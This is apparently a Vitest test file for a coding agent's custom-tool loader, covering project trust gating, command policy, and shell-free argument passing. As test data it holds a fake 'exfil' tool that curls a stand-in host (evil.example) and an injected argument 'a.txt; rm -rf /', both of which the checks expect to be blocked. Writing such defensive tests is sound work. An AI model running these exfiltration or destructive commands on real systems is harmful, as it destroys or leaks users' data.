import fs from 'node:fs';
import { setTrusted } from '../../src/config/trust.js';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createAgent } from '../../src/runtime/createAgent.js';
import { ScriptedBackend } from '../../src/providers/scripted.js';
import { runTurn } from '../../src/core/loop.js';
import { fillCommand } from '../../src/tools/customTools.js';
import { REPO_ROOT, makeProject, tempDir } from '../helpers/env.js';

describe('custom tools', () => {
  it('loads the shipped examples, runs them without a shell, and keeps the command policy in charge', async () => {
    const root = makeProject({ 'a.txt': 'x\n' });
    const dir = path.join(root, '.devx', 'tools');
    fs.mkdirSync(dir, { recursive: true });
    for (const f of ['file_history.yaml', 'run_tests.yaml', 'deploy_preview.yaml']) fs.copyFileSync(path.join(REPO_ROOT, 'tools', f), path.join(dir, f));
    fs.writeFileSync(
      path.join(dir, 'exfil.yaml'),
      'name: exfil\ndescription: sends things\ncommand: ["curl", "{{url}}"]\nargs:\n  url: { required: true }\nconfirmation_required: false\n',
    );
    fs.writeFileSync(path.join(dir, 'broken.yaml'), 'name: Bad Name\ncommand: []\n');
    const backend = new ScriptedBackend([
      'TOOL_CALL: file_history | path=a.txt\nTOOL_CALL: exfil | url=http://evil.example/x\nTOOL_CALL: deploy_preview\nTOOL_CALL: file_history | path=a.txt; rm -rf /',
      'done',
    ]);
    const asked: string[] = [];
    const userHome = tempDir();
    // A project's own tools load only once the user trusts it; before that, start-up names them.
    const untrusted = await createAgent({ cwd: root, env: { PATH: process.env.PATH, HOME: userHome }, backend: new ScriptedBackend([]) });
    expect(untrusted.tools.map((t) => t.name)).not.toContain('exfil');
    expect(untrusted.warnings.join('\n')).toMatch(/this project asks for its own tools \(.*exfil\.yaml.*\); run `devx trust` to allow them/);
    await untrusted.dispose();
    setTrusted(path.join(userHome, '.devx'), root, true);
    const agent = await createAgent({
      cwd: root,
      env: { PATH: process.env.PATH, HOME: userHome },
      backend,
      prompt: async (req) => {
        asked.push(req.tool);
        return 'no';
      },
    });
    expect(agent.tools.map((t) => t.name)).toEqual(expect.arrayContaining(['file_history', 'run_tests', 'deploy_preview', 'exfil']));
    expect(agent.warnings.join('\n')).toMatch(/broken.yaml was not loaded: .*name/);
    expect(agent.deps.systemPrompt).toContain('### file_history');
    await runTurn(agent.deps, [], 'go', { signal: new AbortController().signal, emit: () => {} });
    const fed = backend.requests[1].prompt;
    expect(fed).toMatch(/TOOL_RESULT: file_history \| status=ok \| exit_code=0\n`+\nexit_code=0\nstdout:\n[0-9a-f]+ init/);
    expect(fed).toMatch(/TOOL_RESULT: exfil \| status=error\n`+\ndenied by policy \(command:network\)/);
    expect(asked).toEqual(['deploy_preview']);
    // Arguments are single argv elements: "a.txt; rm -rf /" is a file name git does not know, not a command.
    expect(fed).toMatch(/TOOL_RESULT: file_history \| status=(ok|error)[^\n]*\n`+\nexit_code=\d+/);
    expect(fs.existsSync(path.join(root, 'a.txt'))).toBe(true);
    await agent.dispose();
  });

  it('fills placeholders and drops empty optional arguments', () => {
    const def = {
      name: 't',
      description: 'd',
      command: ['npm', 'test', '--', '{{filter}}', 'x={{v}}'],
      args: { filter: { description: '', required: false }, v: { description: '', required: false, default: '1' } },
      confirmation_required: false,
      timeout: 10,
    };
    expect(fillCommand(def, {})).toEqual(['npm', 'test', '--', 'x=1']);
    expect(fillCommand(def, { filter: 'parser', v: '2' })).toEqual(['npm', 'test', '--', 'parser', 'x=2']);
  });
});
